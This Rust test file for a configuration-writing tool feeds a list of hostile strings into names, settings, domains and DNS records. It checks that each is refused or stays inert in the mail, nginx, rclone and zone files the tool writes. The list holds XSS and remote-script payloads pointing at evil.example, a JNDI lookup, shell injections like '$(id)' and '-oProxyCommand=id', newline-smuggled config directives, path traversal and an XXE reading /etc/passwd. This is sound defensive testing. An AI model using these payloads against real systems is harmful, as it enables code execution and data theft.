//! Values that want to be more than values, wherever a person may write one: either they are refused (exit 2), or every
//! file that is written still means what it should to the program that reads it.

use super::programs::{files, mbsync, nginx};
use super::*;

/// Strings after the Big List of Naughty Strings and the syntaxes that decamp writes.
pub(super) const NAUGHTY: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "`<script>`",
    "```\n<script>alert(1)</script>\n```",
    "</style><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt; &amp; &quot;",
    "{{x}}",
    "{{{x}}}",
    "{{> evil}}",
    "{{#each group}}x{{/each}}",
    "{{lookup this \"constructor\"}}",
    "${jndi:ldap://evil.example/a}",
    "{% print('x') %}",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "'; id; '",
    "\"; id; \"",
    "-oProxyCommand=id",
    "--config=/etc/passwd",
    "$HOME",
    "%0a%0d",
    "x\nHost evil.example.org",
    "x\r\nPassCmd id",
    "x\n[x]\ntype = local",
    "]\n[x]",
    "x; return 301 https://evil.example; #",
    "x\" ; return 200 \"y",
    "x }\nserver { listen 80; }",
    "$request_uri",
    "x\n@ IN TXT evil",
    "x\n$INCLUDE /etc/passwd",
    "x) TXT (y",
    "\\\" \\",
    "a;b",
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\con",
    "CON",
    "..",
    "\u{0}",
    "\u{1b}]52;c;eA==\u{7}",
    "\u{1b}[2Jborrado",
    "\u{202e}gpj.exe",
    "\u{feff}",
    "\u{2028}x",
    "田中さん ñandú Łukasz",
    "👩🏽‍💻🏳️‍🌈",
    "null",
    "true",
    "1e309",
    "=1+1",
    "@SUM(A1)",
    "| a | b |\n| --- | --- |",
    "# título\n\n- [x] hecho",
    "%s%n%p",
    "&x;<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "' OR 1=1 --",
    "Pirate's \"Ship\"",
];

/// A YAML string, whatever is in it (JSON is YAML).
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// Every rendered and planned file must still be what it is.
fn sound(bench: &Bench, value: &str) {
    let at =
        |path: &str| format!("{path} with {value:?}:\n{}", bench.text(path).chars().take(3000).collect::<String>());
    let evil = ["<script", "<img", "<svg", "](javascript:", "](data:", "![x](http"];
    for (path, (_, bytes)) in crate::support::tree(&bench.dir()) {
        // A calendar's lines end in both, as its format wants it.
        let text = String::from_utf8_lossy(&bytes).replace("\r\n", if path.ends_with(".ics") { "\n" } else { "\r\n" });
        if path.starts_with("configs/") || path.starts_with("plan/") {
            assert!(!path.contains("..") && path.bytes().all(|b| (0x21..0x7f).contains(&b)), "{path:?} with {value:?}");
        }
        if path.starts_with("plan/") && !path.ends_with(".yaml")
            || path.starts_with("configs/") && (path.ends_with(".md") || path.ends_with(".html"))
        {
            // The plan's page has one picture of its own.
            let own = "<svg role=\"img\" aria-labelledby=\"gantt-t gantt-d\"";
            let plain = text.to_ascii_lowercase().replacen(own, "", usize::from(path.ends_with(".html")));
            // A link of Markdown is only letters on a page of HTML.
            for bad in evil.iter().filter(|bad| bad.starts_with('<') || !path.ends_with(".html")) {
                let raw = plain.match_indices(*bad).find(|(n, _)| !plain[..*n].ends_with('\\'));
                assert!(raw.is_none(), "`{bad}` in {}", at(&path));
            }
            assert!(
                !text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'),
                "a control character in {}",
                at(&path)
            );
            assert!(!text.chars().any(|c| ('\u{202a}'..='\u{202e}').contains(&c)), "a bidi control in {}", at(&path));
        }
    }
    for path in files(bench, "mbsyncrc") {
        let (good, said) = mbsync(bench, &path);
        assert!(good, "{said} {}", at(&path));
        let plain = bench.text(&path);
        let active: Vec<&str> = plain.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
        assert!(active.iter().all(|l| !l.contains("evil") && !l.contains("PassCmd id")), "{}", at(&path));
    }
    for path in files(bench, "rclone.conf") {
        let (good, said) = program(bench, "rclone", &["--config", &path, "config", "dump"]);
        let dump: serde_json::Value = serde_json::from_str(&said).unwrap_or_else(|e| panic!("{e}: {said}"));
        assert!(
            good && dump.as_object().unwrap().keys().all(|k| k == "new" || k.starts_with("old-")),
            "{dump} {}",
            at(&path)
        );
    }
    for path in files(bench, ".xml") {
        let (good, said) = program(bench, "xmllint", &["--noout", "--nonet", &path]);
        assert!(good, "{said} {}", at(&path));
    }
    for path in files(bench, ".conf").iter().filter(|p| p.contains("/web/")) {
        let (good, said) = nginx(bench, path);
        assert!(good, "{said} {}", at(path));
        let active = bench.text(path).lines().filter(|l| !l.trim_start().starts_with('#')).collect::<String>();
        assert!(!active.contains("evil"), "{}", at(path));
    }
    for path in zone_files(bench, "rioclaro.example").into_iter().flatten() {
        accepted(bench, "rioclaro.example", &path);
        assert!(!bench.text(&path).contains("evil") && !bench.text(&path).contains("$INCLUDE"), "{}", at(&path));
    }
    for path in files(bench, ".yaml").iter().chain(&files(bench, ".yml")) {
        let (good, said) = program(bench, "yamllint", &["-d", YAMLLINT, path]);
        assert!(good, "{said} {}", at(path));
    }
    // What decamp wrote it reads again.
    bench.run(&["plan", "--to", "own-server"]).ok();
    bench.run(&["status"]).ok();
}

/// Plans and renders; `false` when it was refused as it should be, with nothing written by the refusing command.
fn goes_through(bench: &Bench, sets: &[String], value: &str) -> bool {
    for args in [&["inventory"][..], &["plan", "--to", "own-server"]] {
        let ran = bench.run(args);
        assert!(matches!(ran.exit, Some(0 | 2)), "{value:?}: {ran}");
        tame(&ran.all(), value);
        if ran.exit == Some(2) {
            return false;
        }
    }
    let before = files(bench, "");
    let ran = render(bench, sets);
    assert!(matches!(ran.exit, Some(0 | 2)), "{value:?}: {ran}");
    tame(&ran.all(), value);
    if ran.exit == Some(2) {
        assert_eq!(files(bench, ""), before, "refused, and yet written: {value:?}");
    }
    ran.exit == Some(0)
}

/// Nothing reaches the terminal that would command it.
fn tame(said: &str, value: &str) {
    let bad =
        said.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t') || ('\u{202a}'..='\u{202e}').contains(c));
    assert!(bad.is_none(), "{bad:?} reaches the terminal with {value:?}");
}

#[test]
fn names_and_people_may_be_called_anything() {
    let zone = case("rio-claro").text("evidence/rioclaro.example.zone");
    let mut through = 0;
    for value in NAUGHTY {
        let text = quoted(value);
        let bench = Bench::new()
            .file("evidence/rioclaro.example.zone", &zone)
            .file("group.yaml", format!("name: {text}\ndomains: [rioclaro.example]\nroles: [{{name: {text}, role: technician}}, {{name: Ana, role: {text}}}]\navoid: [{{from: 2026-12-20, to: 2027-01-02, why: {text}}}]\nlanguages: [{text}]\n"));
        if goes_through(&bench, &answers("own-server"), value) {
            through += 1;
            sound(&bench, value);
        }
    }
    assert!(through > 30, "only {through} names were taken: `Pirate's \"Ship\"` is one");
}

#[test]
fn domains_that_are_none_are_refused() {
    for value in NAUGHTY.iter().chain(&[
        "a..example",
        "-a.example",
        &"a".repeat(64),
        "a.example.",
        "a.example/x",
        "a_b.example",
        "127.0.0.1",
        "*.example",
    ]) {
        let bench = Bench::new()
            .file("group.yaml", format!("name: Casa\ndomains: [{}]\n", quoted(value)))
            .file("evidence/z.zone", crate::support::zone("@ IN MX 1 aspmx.l.google.com.\n"));
        let ran = bench.run(&["inventory"]);
        tame(&ran.all(), value);
        let domain = *value == "a.example."
            || *value == "127.0.0.1"
            || *value == "null"
            || *value == "true"
            || *value == "CON"
            || value.chars().all(|c| c.is_alphanumeric());
        assert!(ran.exit == Some(2) || domain && ran.exit == Some(0), "{value:?}: {ran}");
    }
}

#[test]
fn settings_are_values_or_refused() {
    let zone = case("rio-claro").text("evidence/rioclaro.example.zone");
    let keys = [
        "mx",
        "spf",
        "dkim_selector",
        "dkim_value",
        "imap_host",
        "imap_port",
        "smtp_host",
        "smtp_security",
        "mail_login",
        "web_address",
        "web_cname",
        "nextcloud_url",
    ];
    let bench = Bench::new()
        .file("evidence/rioclaro.example.zone", &zone)
        .file("group.yaml", "name: Casa\ndomains: [rioclaro.example]\n");
    planned(&bench, "own-server");
    for (n, value) in NAUGHTY.iter().filter(|v| !v.contains('\0')).enumerate() {
        for key in keys {
            // A few with something good in front, as an attacker would.
            let front = match key {
                "spf" => "include:_spf.example.org",
                "dkim_value" => "v=DKIM1; p=MIG",
                "nextcloud_url" => "https://nube.example.org/",
                "mx" => "10 mx.example.org",
                "imap_port" => "993",
                _ => "mail.example.org",
            };
            for text in [(*value).to_owned(), format!("{front}{value}")] {
                let set = ["--set".to_owned(), format!("own-server.{key}={text}")];
                let ran = render(&bench, &set);
                tame(&ran.all(), value);
                assert!(matches!(ran.exit, Some(0 | 2)), "{key} {text:?}: {ran}");
                let written = ran.exit == Some(0);
                // Looking at all files takes a while: for those that were taken, and only once in a while again.
                if written && (n + key.len()) % 3 == 0 {
                    sound(&bench, &text);
                }
            }
        }
    }
    // The same by way of `group.yaml`.
    for value in ["x\nHost evil.example.org", "]\n[x]", "$(id)", "{{x}}", "a.example\"; id"] {
        for key in ["imap_host", "nextcloud_url", "spf", "unheard_of"] {
            bench.put(
                "group.yaml",
                format!(
                    "name: Casa\ndomains: [rioclaro.example]\nsettings: {{own-server: {{{key}: {}}}}}\n",
                    quoted(value)
                ),
            );
            if render(&bench, &[]).exit == Some(0) {
                sound(&bench, value);
            }
        }
    }
}

#[test]
fn what_a_zone_says_stays_a_value() {
    // TXT values and owners of the evidence end in the changes and in the zones.
    for value in NAUGHTY.iter().filter(|v| !v.contains(['\n', '\r', '\0'])) {
        let text = value.replace('\\', "\\\\").replace('"', "\\\"");
        let zone = case("rio-claro").text("evidence/rioclaro.example.zone");
        let zone = format!(
            "{zone}naughty IN TXT \"{text}\"\n_dmarc.x IN TXT \"google-site-verification={text}\"\n@ IN TXT \"google-site-verification={text}\"\n"
        );
        let bench = Bench::new()
            .file("evidence/rioclaro.example.zone", &zone)
            .file("group.yaml", "name: Casa\ndomains: [rioclaro.example]\n");
        if !goes_through(&bench, &answers("own-server"), value) {
            panic!("{value:?} in a TXT record stops the way");
        }
        let files = zone_files(&bench, "rioclaro.example").unwrap();
        let txt = |path: &str| {
            let zone = canonical(&bench, "rioclaro.example", path);
            of(&zone, "naughty.rioclaro.example.", "TXT").into_iter().map(|(_, v)| v.to_owned()).collect::<Vec<_>>()
        };
        assert_eq!(txt(&files[0]), txt(&files[2]), "{value:?}");
        assert_eq!(txt(&files[1]), txt(&files[2]), "{value:?}");
        for ext in ["changes.md", "changes.es.md"] {
            let text = changes(&bench, "rioclaro.example", ext);
            for line in text.lines().filter(|l| !l.starts_with("    ")) {
                assert!(!line.to_ascii_lowercase().replace("\\<", "").contains("<script"), "{ext}: {line}");
            }
            tame(&text, value);
        }
    }
}
